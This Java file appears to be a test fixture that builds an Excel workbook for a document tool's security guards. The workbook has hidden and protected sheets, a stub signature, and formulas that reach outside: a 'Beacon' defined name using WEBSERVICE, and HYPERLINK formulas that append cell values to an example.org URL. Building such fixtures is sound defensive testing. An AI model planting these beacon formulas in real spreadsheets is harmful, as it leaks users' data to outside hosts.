package dev.deckhand.assist;

import dev.deckhand.document.OfficeFile;
import dev.deckhand.ooxml.OoxmlEngine;
import dev.deckhand.ooxml.opc.OpcEdit;
import dev.deckhand.ooxml.opc.OpcPackage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import org.apache.poi.ss.SpreadsheetVersion;
import org.apache.poi.ss.util.AreaReference;
import org.apache.poi.xssf.usermodel.XSSFCellStyle;
import org.apache.poi.xssf.usermodel.XSSFName;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFTable;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** A workbook with something for every guard to watch over. */
final class GuardedBook {
  private static final String ORIGIN =
      "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin";
  private static final String SIGNATURE =
      "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/signature";

  /** It takes longer to make than most of what is done with it. */
  private static final Map<Boolean, byte[]> BOOKS = new ConcurrentHashMap<>();

  private final OoxmlEngine engine;

  GuardedBook(OoxmlEngine engine) {
    this.engine = engine;
  }

  /**
   * {@code Data} (A1:E9, row 6 and column G hidden), {@code Notes} with formulas that reach
   * outside, {@code Secret} hidden, {@code Locked} protected with one open cell, {@code Links} with
   * a table whose second column is computed and reaches outside.
   */
  OfficeFile plain() {
    return open(book(false));
  }

  /** The same with its structure protected. */
  OfficeFile locked() {
    return open(book(true));
  }

  /** The same with a digital signature. */
  OfficeFile signed() {
    OpcEdit edit = OpcPackage.open(book(false)).edit();
    String type = "application/vnd.openxmlformats-package.digital-signature-";
    edit.add("/_xmlsignatures/origin.sigs", new byte[0], type + "origin");
    byte[] signature =
        "<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"/>"
            .getBytes(StandardCharsets.UTF_8);
    edit.add("/_xmlsignatures/sig1.xml", signature, type + "xmlsignature+xml");
    edit.addRelationship("/", ORIGIN, "/_xmlsignatures/origin.sigs");
    edit.addRelationship("/_xmlsignatures/origin.sigs", SIGNATURE, "/_xmlsignatures/sig1.xml");
    return open(edit.save());
  }

  private OfficeFile open(byte[] content) {
    return engine.open("guarded.xlsx", content);
  }

  private static byte[] book(boolean locked) {
    return BOOKS.computeIfAbsent(locked, GuardedBook::make).clone();
  }

  private static byte[] make(boolean locked) {
    try (XSSFWorkbook book = new XSSFWorkbook();
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      data(book.createSheet("Data"));
      notes(book.createSheet("Notes"));
      book.createSheet("Secret").createRow(0).createCell(0).setCellValue("salaries");
      book.setSheetHidden(2, true);
      locked(book, book.createSheet("Locked"));
      links(book.createSheet("Links"));
      name(book, "Rate", "Data!$B$2");
      name(book, "Beacon", "_xlfn.WEBSERVICE(Notes!$A$1)");
      if (locked) {
        book.lockStructure();
      }
      book.write(out);
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static void data(XSSFSheet sheet) {
    XSSFRow head = sheet.createRow(0);
    String[] titles = {"Port", "Ships", "Tons", "Load", "Share"};
    for (int column = 0; column < titles.length; column++) {
      head.createCell(column).setCellValue(titles[column]);
    }
    for (int row = 1; row < 9; row++) {
      XSSFRow cells = sheet.createRow(row);
      cells.createCell(0).setCellValue("Port " + row);
      cells.createCell(1).setCellValue(row);
      cells.createCell(2).setCellValue(10.5 * row);
      cells.createCell(3).setCellFormula("C" + (row + 1) + "/B" + (row + 1));
      cells.createCell(4).setCellValue(row / 100.0);
    }
    sheet.getRow(5).setZeroHeight(true);
    sheet.setColumnHidden(6, true);
  }

  private static void notes(XSSFSheet sheet) {
    XSSFRow row = sheet.createRow(0);
    row.createCell(0).setCellValue("seen");
    row.createCell(1).setCellFormula("_xlfn.WEBSERVICE(C1)");
    row.createCell(3).setCellFormula("HYPERLINK(\"https://example.org/?\"&A1,\"there\")");
  }

  private static void links(XSSFSheet sheet) {
    XSSFRow head = sheet.createRow(0);
    head.createCell(0).setCellValue("Key");
    head.createCell(1).setCellValue("Link");
    for (int row = 1; row < 4; row++) {
      XSSFRow cells = sheet.createRow(row);
      cells.createCell(0).setCellValue("k" + row);
      cells
          .createCell(1)
          .setCellFormula("HYPERLINK(\"https://example.org/?\"&A%d,\"open\")".formatted(row + 1));
    }
    XSSFTable table = sheet.createTable(new AreaReference("A1:B4", SpreadsheetVersion.EXCEL2007));
    table.setName("Links");
    table.setDisplayName("Links");
    table
        .getCTTable()
        .getTableColumns()
        .getTableColumnArray(1)
        .addNewCalculatedColumnFormula()
        .setStringValue("HYPERLINK(\"https://example.org/?\"&A2,\"open\")");
  }

  private static void locked(XSSFWorkbook book, XSSFSheet sheet) {
    XSSFRow row = sheet.createRow(0);
    row.createCell(0).setCellValue("price");
    XSSFCellStyle open = book.createCellStyle();
    open.setLocked(false);
    row.createCell(1).setCellStyle(open);
    sheet.protectSheet("x");
  }

  private static void name(XSSFWorkbook book, String name, String refersTo) {
    XSSFName defined = book.createName();
    defined.setNameName(name);
    defined.setRefersToFormula(refersTo);
  }
}
